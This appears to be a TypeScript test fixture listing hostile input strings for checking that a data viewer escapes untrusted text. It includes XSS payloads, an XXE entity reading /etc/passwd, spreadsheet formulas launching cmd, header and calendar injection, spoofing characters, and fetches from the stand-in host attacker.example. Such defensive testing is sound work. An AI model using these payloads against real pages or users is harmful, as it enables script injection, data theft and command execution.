/**
 * Texts that run, fetch or break something if a page treats them as markup, code, style, address,
 * spreadsheet cell or line. They set `pwned`, and fetch from a host that does not exist. All their
 * characters are allowed in a dataset (`src/format/checks/words/checkCharacters.ts`).
 */
const SCRIPT = 'window.pwned=1';
const AWAY = 'https://attacker.example';

export const hostileTexts: readonly string[] = [
  // Script elements.
  `<script>${SCRIPT}</script>`,
  `<ScRiPt src=${AWAY}/x.js></sCrIpT>`,
  `<script type=module>import '${AWAY}/m.js'</script>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<script/x>${SCRIPT}</script/y>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
  `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
  `%3Cscript%3E${SCRIPT}%3C/script%3E`,
  // Event handlers.
  `<img src=x onerror=${SCRIPT}>`,
  `<img src="${AWAY}/p.png" alt=pwned name=pwned>`,
  `<body onload=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}></video>`,
  `<audio src=x onerror=${SCRIPT}>`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<a href=# onpointerover=${SCRIPT}>x</a>`,
  `<x onanimationstart=${SCRIPT} style="animation:spin 1s">`,
  // SVG and MathML.
  `<svg onload=${SCRIPT}>`,
  `<svg><script href="data:text/javascript,${SCRIPT}" /></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${SCRIPT}'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<math href="javascript:${SCRIPT}">x</math>`,
  // Frames, forms and documents.
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<form action=${AWAY}/><button autofocus>x</button></form>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  // Ends of attributes, elements, comments and CDATA sections.
  `"><img src=x onerror=${SCRIPT}>`,
  `'><svg/onload=${SCRIPT}>`,
  `" autofocus onfocus="${SCRIPT}" x="`,
  `' onmouseover='${SCRIPT}' x='`,
  `\` onerror=${SCRIPT} \``,
  `</title><script>${SCRIPT}</script>`,
  `</textarea><img src=x onerror=${SCRIPT}>`,
  `</style><script>${SCRIPT}</script>`,
  `</noscript><script>${SCRIPT}</script>`,
  `</script><script>${SCRIPT}</script>`,
  `<!--<script>${SCRIPT}</script>`,
  `--><script>${SCRIPT}</script><!--`,
  `--!><img src=x onerror=${SCRIPT}>`,
  `]]><script>${SCRIPT}</script><![CDATA[`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `&e; &#0; &nosuch; &amp;amp; & &`,
  // Ends of string literals, templates and replacement patterns.
  `";${SCRIPT};//`,
  `';${SCRIPT};//`,
  `\${${SCRIPT}} {{constructor.constructor('${SCRIPT}')()}} <%= ${SCRIPT} %>`,
  "$& $` $' $1 $$ {title} {0} %s",
  `\u2028${SCRIPT}\u2029//`,
  '\\"\\u0022\\x3e\\',
  // Addresses.
  `javascript:${SCRIPT}`,
  `JaVa\tScRiPt:${SCRIPT}//https://example.org`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `vbscript:pwned`,
  `//attacker.example/x`,
  // Styles.
  `<style>@import '${AWAY}/x.css';</style>`,
  `<p style="background:url(${AWAY}/x.png);position:fixed;inset:0">x`,
  `red;}*{background:url(${AWAY}/y.png)}`,
  `</p></div></div></main><h1>`,
  // Spreadsheet formulas, and lines of calendars and headers.
  `=HYPERLINK("${AWAY}","x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `x\r\nEND:VEVENT\r\nATTACH:${AWAY}/x\r\nBEGIN:VEVENT`,
  `x\nSet-Cookie: pwned=1\n\n<script>${SCRIPT}</script>`,
  `a;b,c\\;d\\,e\\n"f"`,
  // Characters that display differently from how they are written.
  '\u202etxt.exe\u202c \u2067אב\u2069',
  'a\u200bb\u200dc\ufeffd\u00ade\u2060f\u200e\u200f',
  `Z${'\u0351\u0316\u0334'.repeat(20)}algo`,
  '＜script＞ﬁ \u202e\u202c',
  '👩‍👩‍👧‍👦🏴‍☠️\u{e0041}\u{10fffd}',
  // Names of existing properties and values.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  // Long words.
  'W'.repeat(300),
  `https://example.org/${'very-long/'.repeat(30)}`,
];

/** All hostile texts in one. */
export const allOfThem = hostileTexts.join(' ');

/** Every `share`th hostile text from `k` on, in one. Together, `share` such texts have all. */
export const someOfThem = (k: number, share: number): string =>
  hostileTexts.filter((_, i) => i % share === k).join(' ');
